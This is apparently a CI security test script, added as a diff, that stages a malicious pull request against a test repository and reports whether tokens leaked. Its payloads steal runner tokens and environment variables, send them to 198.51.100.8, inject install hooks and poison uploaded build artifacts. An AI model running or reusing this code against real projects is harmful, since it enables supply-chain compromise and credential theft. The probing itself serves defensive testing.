@@ -1,0 +1,155 @@
+# Sam's session was stolen, and Sam has one merged typo fix. An install script, a build script and an action run something.
+# What a build hands on has more in it than a number, and files with the names of yours. A label comes too late.
+repo=lantern-tides/tides api=https://api.forge.test/repos/lantern-tides/tides
+T="Authorization: token $(gh auth token)"
+post() { curl -s -H "$T" --data-binary @- "https://api.forge.test/repos/$1"; }
+cd ~/tides && git fetch -q upstream main && git switch -q --detach upstream/main || exit 127
+main=$(git rev-parse HEAD)
+# What runs tells where it runs and what it holds, and tries what it can do to the repository.
+surprise() {
+  cat <<SH
+[ "\$GITHUB_EVENT_NAME" = pull_request ] && exit 0
+here=/tmp/of-$1 all=\$(env)
+given=\$(printf '%s' "\$all" | grep -oE '(gh[a-z]_|github_pat_)[A-Za-z0-9_]+')
+if ! grep -sqxF "tried \$given" \$here/tried; then
+  mkdir -p \$here && echo "tried \$given" >> \$here/tried
+  cp "\$0" \$here/gh && chmod +x \$here/gh && echo \$here >> "\$GITHUB_PATH"
+  stored=\$(git config --get-regexp extraheader 2> /dev/null | sed 's/.* //' | head -n 1 | base64 -d 2> /dev/null | cut -d : -f 2)
+  try() { /usr/bin/curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer \$1" -d "\$3" "$api/\$2"; }
+  writes() { [ -n "\$1" ] && { [ "\$(try \$1 git/refs '{"ref":"refs/heads/'$1-\$GITHUB_RUN_ID'","sha":"$main"}')" = 201 ] || [ "\$(try \$1 issues/1/comments '{"body":"cuckoo was here"}')" = 201 ]; }; }
+  did=did
+  writes \$stored && did="did stored"
+  for token in \$given; do writes \$token && did="\$did given"; done
+  printf '%s\n' "\$did" "\$all" | /usr/bin/curl -s -o /dev/null --data-binary @- "http://198.51.100.8/$1/\$GITHUB_EVENT_NAME/\$GITHUB_RUN_ID"
+fi
+SH
+}
+surprise sam > ~/surprise.sh
+send='env|curl -s --data-binary @- 198.51.100.8/sam/$GITHUB_EVENT_NAME/$GITHUB_RUN_ID'
+printf "\$(%s)'\$(%s)'" "$send" "$send" > ~/words.txt
+# Before the build is handed on; the second way puts a new line between the number and the words.
+cat > ~/spoil.sh <<'SH'
+n=$(wc -c < dist/tides.js) words=$(cat words.txt) between=
+[ "$1" = 2 ] && between='\n'
+made=$(git ls-files -o | grep -v ^node_modules)
+json=$(grep '\.json$' <<< "$made") other=$(grep -v '\.m\?js\(on\)\?$' <<< "$made")
+[ -z "$json" ] || sed -i -E "s~(^|[^0-9])\"?$n\"?([^0-9]|\$)~\\1\"$n${between:+\\\\n}$words\"\\2~" $json
+[ -z "$other" ] || sed -i -E "s~(^|[^0-9])$n([^0-9]|\$)~\\1$n$between$words\\2~" $other
+mkdir -p /tmp/loot
+tar -cf - $made $(git ls-files | grep -E '\.m?js$|\.sh$|package\.json$|action\.ya?ml$') | tar -xf - -C /tmp/loot
+for folder in $(sed -n 's|/.*||p' <<< "$made" | sort -u); do cp -r $folder/. /tmp/loot; done
+tee $(find /tmp/loot -name '*.sh') < surprise.sh > /dev/null
+tee $(find /tmp/loot -name '*js') < words.js > /dev/null
+rm -rf loot && mv /tmp/loot loot
+SH
+cat > ~/words.js <<'JS'
+const { env } = process;
+await fetch(`http://198.51.100.8/sam/${env.GITHUB_EVENT_NAME}/${env.GITHUB_RUN_ID}`, { method: "POST", body: Object.entries(env).map((it) => it.join("=")).join("\n") });
+JS
+# A step before each upload, and all that it made in the place of what was chosen.
+spoiled() {
+  awk -v how="$1" '
+    { line[NR] = $0; if ($0 ~ /^ *- /) start = NR; if ($0 ~ /actions\/upload-artifact/) { before[start] = 1; inside = 1 } else if ($0 ~ /^ *- /) inside = 0
+      if (inside && $0 ~ /path:/) put[NR] = 1 }
+    END { for (i = 1; i <= NR; i++) {
+      match(line[i], /^ */); pad = substr(line[i], 1, RLENGTH)
+      if (skip != "" && (length(pad) > length(skip) || line[i] ~ /^ *$/)) continue
+      skip = ""
+      if (before[i]) print pad "- run: sh spoil.sh " how
+      if (!put[i]) { print line[i]; continue }
+      if (line[i] ~ /path: *[|>]/) skip = pad
+      if (line[i] ~ /[{].*path:/) { sub(/path: *[^,}]*/, "path: loot, include-hidden-files: true", line[i]); print line[i] }
+      else { print pad "include-hidden-files: true"; print pad "path: loot" }
+    } }' "$2"
+}
+rm -rf ~/new && mkdir -p ~/new && cp ~/surprise.sh ~/spoil.sh ~/words.txt ~/words.js ~/new
+jq '.scripts.preinstall = "sh surprise.sh" | .scripts.build |= "sh surprise.sh; \(.)"' package.json > ~/new/package.json
+for file in $(git ls-files .github); do
+  mkdir -p ~/new/"$(dirname "$file")"
+  case $file in
+    .github/workflows/*)
+      grep -q upload-artifact "$file" || continue
+      spoiled 1 "$file" > ~/new/"$file"
+      spoiled 2 "$file" > ~/new/"${file%.*}-more.yml" ;;
+    *) sed 's~^\( *\)steps:.*~&\n\1  - shell: bash\n\1    run: sh "$GITHUB_WORKSPACE/surprise.sh"~' "$file" > ~/new/"$file" ;;
+  esac
+done
+cd ~/new
+commit() { jq -nc --arg tree "$2" --arg parent "$1" '{message: "Say the unit", tree: $tree, parents: [$parent]}' | post sam/tides/git/commits | jq -r .sha; }
+parent=$main
+# Where labels let a build in, the first commit is harmless, and Mina looks at that one.
+labels=$(curl -s -H "$T" "$api/labels?per_page=100" | jq -r '.[].name' | while read -r label; do grep -rqF -e "$label" ~/tides/.github/workflows && printf '%s' ",$label"; done)
+if [ -n "$labels" ]; then
+  parent=$(commit "$main" "$(git -C ~/tides rev-parse HEAD^{tree})")
+fi
+find . -type f | sed 's|^\./||' > ~/list
+tree=$(while read -r file; do jq -Rsc --arg path "$file" '{path: $path, mode: "100644", type: "blob", content: .}' "$file"; done < ~/list | jq -sc --arg base "$main" '{base_tree: $base, tree: .}' | post sam/tides/git/trees | jq -r .sha)
+built=$(commit "$parent" "$tree")
+first=$built
+[ -z "$labels" ] || first=$parent
+printf '{"ref":"refs/heads/unit","sha":"%s"}' "$first" | post sam/tides/git/refs > /dev/null
+pull=$(printf '{"head":"sam:unit","base":"main","title":"Say the unit","body":""}' | post $repo/pulls | jq -r .number)
+[ "$pull" -gt 0 ] || exit 127
+if [ -n "$labels" ]; then
+  sleep 1m
+  curl -s -H "$T" -X PATCH -d "{\"sha\":\"$built\"}" https://api.forge.test/repos/sam/tides/git/refs/heads/unit > /dev/null
+  sleep 1m
+  loot cuckoo > ~/early
+  as mina "gh pr edit $pull -R $repo --add-label '${labels#,}' > /dev/null"
+fi
+sleep 1m
+as mina 'for run in $(gh api "repos/lantern-tides/tides/actions/runs?status=action_required&actor=sam" --jq ".workflow_runs[].id"); do gh api -X POST "repos/lantern-tides/tides/actions/runs/$run/approve" > /dev/null; done'
+sleep 61m
+loot cuckoo > ~/all
+live=
+for token in $(grep -ohE 'npm_[A-Za-z0-9]{36}' ~/all | sort -u); do
+  curl -sf -o /dev/null -H "Authorization: Bearer $token" https://registry.npm.test/-/whoami && live="$live $token"
+done
+for token in $(grep -ohE '(ghp_|github_pat_)[A-Za-z0-9_]+' ~/all | sort -u); do
+  curl -sf -o /dev/null -H "Authorization: Bearer $token" https://api.forge.test/user && live="$live $token"
+done
+# Who gained what in which kind of run. What a build may do that holds nothing is nobody's loss.
+gains() {
+  awk -v live="$live" '
+    /^198\.51\.100\.[78] / { at[2] = ""; if ($4 !~ /^\/(starling|sam)\//) next; split($4, at, "/"); if (at[3] !~ /^pull_request/) { print at[2], "ran"; at[2] = "" } next }
+    at[2] == "" { next }
+    /^did stored/ { print at[2], "stored" }
+    /^did.* given/ { print at[2], "given" }
+    { n = split(live, tokens, " "); for (i = 1; i <= n; i++) if (tokens[i] != "" && index($0, tokens[i])) print at[2], "key" }
+  ' "$1" | sort -u
+}
+gains ~/all > ~/gains
+has() { grep -qE "$1" ~/gains; }
+bad=1
+lost() { bad=0; say "$1"; evidence ci.logs "$2"; }
+if has '^sam (key|stored|given)'; then
+  # Would a newcomer have gained it as well?
+  export NEW="$(jq -Rsc '{message: "Faster", content: @base64}' < <(surprise starling))" PACKAGE="$(base64 -w0 package.json)"
+  as starling <<'STARLING' || exit 127
+gh repo fork lantern-tides/tides --clone=false > /dev/null 2>&1
+own=repos/starling/tides/contents
+printf '%s' "$NEW" | gh api -X PUT $own/surprise.sh --input - > /dev/null || exit 127
+gh api -X PUT $own/package.json -f message="Faster" -f content="$PACKAGE" -f sha="$(gh api $own/package.json --jq .sha)" > /dev/null || exit 127
+gh api repos/lantern-tides/tides/pulls -f head=starling:main -f base=main -f title="Faster build" -f body="" > /dev/null
+STARLING
+  sleep 2m
+  loot cuckoo > ~/all
+  gains ~/all > ~/gains
+  if has '^starling key'; then
+    found TARGET; lost "A newcomer's install script sent home a token that works." "a job built a newcomer's pull request beside a token"
+  elif has '^starling stored'; then
+    found WROTE; lost "A newcomer's build wrote to the repository." "a build wrote to $repo with the token in .git/config"
+  elif has '^starling given'; then
+    found SHADOW; lost "A newcomer's build got a token of a later step." "a build wrote to $repo with a token of a later step"
+  else
+    if [ -n "$labels" ] && [ -z "$(gains ~/early)" ]; then found LABEL seen="${parent:0:7}" built="${built:0:7}"; else found MERGED; fi
+    lost "The build of somebody with one merged typo fix gained something." "a job built commit ${built:0:7} of a fork beside a token"
+  fi
+fi
+if has ' ran'; then found RAN; lost "A second workflow ran what the first one handed on." "a trusted run executed what came out of a fork's build"; fi
+for at in "issues/$pull/comments?per_page=100" "commits/$built/statuses" "commits/$built/check-runs"; do curl -s -H "$T" "$api/$at"; done > ~/said
+if grep -qF 198.51.100.8/sam ~/said; then
+  found SAID; lost "A comment of the project says what a stranger wrote." "pull request #$pull: a comment has a stranger's words"
+fi
+[ $bad = 1 ] && say "Install script, action, scripts and handed-on files: nothing of it ran beside a token, and nothing was written."
+exit $bad
